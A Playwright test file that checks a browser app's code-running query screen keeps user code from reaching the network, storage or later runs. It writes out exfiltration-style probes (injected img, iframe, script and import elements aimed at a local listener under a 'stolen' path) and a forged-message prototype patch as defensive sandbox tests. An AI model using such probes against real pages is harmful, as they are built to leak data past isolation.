/** The code of a query reaches no network, no storage and no other run. */
import { expect, type Page, test } from "@playwright/test";
import { BuiltSite } from "./pages/built-site.ts";
import { attempts, endless, hiddenImports, leftovers } from "./pages/hostile-scripts.ts";
import { Listener } from "./pages/listener.ts";
import { QueryScreen } from "./pages/query-screen.ts";
import { Stele } from "./pages/stele.ts";

/** In the address and the name of everything that gets out. */
const MARK = "stolen";
const GROUP = 20;
const PLAIN = 'console.log([1, 2].map(n => n * 2).join(), await db.User.count(), "plain';

const site = new BuiltSite("/");
const listener = new Listener();
let address: string;
let outside: string;

test.beforeAll(async () => {
  address = await site.start();
  outside = await listener.start();
});

test.afterAll(async () => {
  await site.stop();
  await listener.stop();
});

const openQuery = async (page: Page): Promise<QueryScreen> => {
  await page.goto(`${address}#/query`);
  await page.evaluate(mark => {
    const reached: unknown[] = [];
    Object.assign(globalThis, { reached });
    new BroadcastChannel(mark).onmessage = ({ data }) => reached.push(data);
    addEventListener("message", ({ data }) => reached.push(data));
  }, MARK);
  const query = new QueryScreen(page);
  await query.ready();
  await query.show("Console");
  return query;
};

const consoleOf = (query: QueryScreen) =>
  query.results.getByRole("list", { name: "Console" }).getByRole("listitem");

/** Tries all scripts of a group in one run, each with a different address. */
const groupCode = (scripts: readonly string[], first: number, target: string): string => {
  const functions = scripts.map((script, index) => {
    const number = first + index;
    const constants = `const u = "${target}/${MARK}/${number}", name = "${MARK}${number}";`;
    return `async () => { ${constants}\n${script};\n }`;
  });
  return `// @ts-nocheck
const tries = [${functions.join(",\n")}];
const waiting = new Promise(done => setTimeout(done, 400));
await Promise.all(tries.map(body => Promise.race([waiting, body().catch(() => undefined)])));
await waiting;
console.log("tried", ${first}, tries.length);
`;
};

/** What a page of this origin finds in its storage, its locks and its messages. */
const tracesIn = (page: Page): Promise<string> =>
  page.evaluate(async () => {
    const files: string[] = [];
    for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
    const { held = [], pending = [] } = await navigator.locks.query();
    return JSON.stringify([
      (await indexedDB.databases()).map(({ name }) => name),
      await caches.keys(),
      document.cookie,
      Object.keys(localStorage),
      Object.keys(sessionStorage),
      files,
      [...held, ...pending].map(({ name }) => name),
      Reflect.get(globalThis, "reached"),
    ]);
  });

const expectNothingReached = async (page: Page): Promise<void> => {
  expect(listener.arrived).toEqual([]);
  expect(site.requests.filter(url => url.includes(MARK))).toEqual([]);
  expect(await tracesIn(page)).not.toContain(MARK);
  // The project itself is still stored.
  expect(await tracesIn(page)).toContain('"stele"');
};

const expectPlainRun = async (query: QueryScreen, number: number): Promise<void> => {
  await query.write(`${PLAIN} ${number}");`);
  await expect(consoleOf(query).last()).toContainText(`plain ${number}`, { timeout: 15_000 });
  await expect(consoleOf(query)).toHaveText([/^2,4\s+5\s+plain/]);
};

test("the listener notices what reaches it", async () => {
  await fetch(`${outside}/control`);
  expect(listener.arrived.splice(0)).toEqual(["tcp", "/control"]);
});

for (const [where, target] of [
  ["another origin", () => outside],
  ["the page's own origin", () => address.slice(0, -1)],
] as const) {
  test(`nothing reaches ${where} or any storage`, async ({ page }) => {
    const query = await openQuery(page);
    for (let first = 0; first < attempts.length; first += GROUP) {
      const group = attempts.slice(first, first + GROUP);
      await query.write(groupCode(group, first, target()));
      const last = consoleOf(query).last();
      await expect(last).toContainText(new RegExp(`tried\\s+${first}\\s+${group.length}`), {
        timeout: 15_000,
      });
    }
    await expectPlainRun(query, 0);
    await expectNothingReached(page);
  });
}

test("the page itself loads nothing from another origin", async ({ page }) => {
  await openQuery(page);
  await page.evaluate(async url => {
    const markup = `<img src="${url}"><link rel="stylesheet" href="${url}"><iframe src="${url}"></iframe>
      <object data="${url}"></object><form action="${url}"><button>Go</button></form>
      <div style="background: url('${url}')">x</div>`;
    document.body.insertAdjacentHTML("beforeend", markup);
    document.querySelector<HTMLButtonElement>("form button")?.click();
    const script = document.body.appendChild(document.createElement("script"));
    script.src = url;
    await fetch(url).catch(() => undefined);
    await import(/* @vite-ignore */ url).catch(() => undefined);
    await new Promise(resolve => setTimeout(resolve, 300));
  }, `${outside}/${MARK}`);
  // The browser may open a connection before it checks the policy. No request follows.
  expect(listener.arrived.splice(0).filter(entry => entry !== "tcp")).toEqual([]);
  await expectNothingReached(page);
});

test("an import that hides in TypeScript is refused", async ({ page }) => {
  const query = await openQuery(page);
  for (const [index, script] of hiddenImports.entries()) {
    await query.write(`const u = "${outside}/${MARK}";\n\n${"\n".repeat(index)}${script}`);
    const alert = page.getByRole("alert").filter({ hasText: `Line ${index + 3}:` });
    await expect(alert).toContainText("cannot import");
  }
  await expectPlainRun(query, 0);
  await expectNothingReached(page);
});

test("nothing of a run is left in the next", async ({ page }) => {
  test.setTimeout(180_000);
  const query = await openQuery(page);
  for (const [index, script] of leftovers.entries()) {
    await query.write(`// @ts-nocheck\n${script}\nconsole.log("left", ${index});`);
    await page.waitForTimeout(120);
    await expectPlainRun(query, index);
  }
  await expectNothingReached(page);
  expect(await page.locator("iframe").count()).toBeLessThanOrEqual(1);
});

test("code that never answers is ended, and the next run is right", async ({ page }) => {
  const query = await openQuery(page);
  for (const [index, script] of endless.entries()) {
    await query.write(`// @ts-nocheck\n${script}`);
    await page.waitForTimeout(400);
    await expectPlainRun(query, index);
  }
  await expectNothingReached(page);
});

test("a forged database is not kept by a later query of another project", async ({ page }) => {
  const query = await openQuery(page);
  await query.write(
    `// @ts-nocheck
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (v) { v.outcome.database = new Uint8Array(9); post.call(this, v); };
addEventListener("message", ({ data }) => console.log(data));
console.log("forging");`,
  );
  await expect(consoleOf(query)).toContainText(["forging"]);
  const stele = new Stele(page);
  await stele.chooseInMenu(/sample Library/);
  await expect(stele.tables).toHaveCount(9);
  await query.write('db.Tag.create({ name: "Grace" }); await db.save(); console.log("kept");');
  await expect(consoleOf(query)).toContainText(["kept"]);
  await page.getByRole("button", { name: "Run and keep" }).click();
  await expect(page.getByText("Kept: 1 row written")).toBeVisible();
  await query.write('console.log(await db.Tag.where({ name: "Grace" }).count(), "again");');
  await expect(consoleOf(query)).toHaveText([/^1\s+again/]);
});
